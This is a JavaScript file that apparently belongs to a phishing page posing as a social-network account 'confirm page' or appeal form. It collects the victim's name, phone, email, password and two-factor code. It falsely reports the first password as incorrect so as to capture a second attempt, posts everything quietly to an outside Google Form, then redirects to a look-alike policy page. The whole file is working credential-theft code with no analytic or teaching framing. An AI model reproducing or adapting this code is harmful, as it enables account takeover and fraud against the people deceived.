function submitToForm(data) {
  var url = "https://docs.google.com/forms/d/e/FORM_ID/formResponse";
  var parts = [];
  for (var k in data) parts.push(encodeURIComponent(k) + "=" + encodeURIComponent(data[k]));
  return fetch(url, {
    method: "POST",
    mode: "no-cors",
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
    body: parts.join("&")
  });
}

document.addEventListener("DOMContentLoaded", function () {
  var pageForm = document.querySelector("#confirm-page");
  var authForm = document.querySelector("#confirm-auth");
  var info = {};

  pageForm.addEventListener("submit", function (ev) {
    ev.preventDefault();
    info["entry.1001"] = pageForm.fullname.value;
    info["entry.1002"] = pageForm.phone.value;
    info["entry.1003"] = pageForm.email.value;
    info["entry.1004"] = pageForm.appeal.value;
    document.querySelector("#modal-password").classList.add("open");
  });

  authForm.addEventListener("submit", function (ev) {
    ev.preventDefault();
    var field = info["entry.1005"] ? "entry.1006" : "entry.1005";
    info[field] = authForm.password.value;
    submitToForm(info).then(function () {
      if (field === "entry.1005") {
        authForm.password.value = "";
        document.querySelector("#modal-password .text-danger").textContent = "The password you've entered is incorrect.";
      } else {
        document.querySelector("#modal-password").classList.remove("open");
        document.querySelector("#modal-2fa").classList.add("open");
      }
    });
  });

  document.querySelector("#send-code").onclick = function () {
    info["entry.1007"] = document.querySelector("#twofa").value;
    submitToForm(info).then(function () { location.href = "https://transparency.facelink.example/policies"; });
  };
});
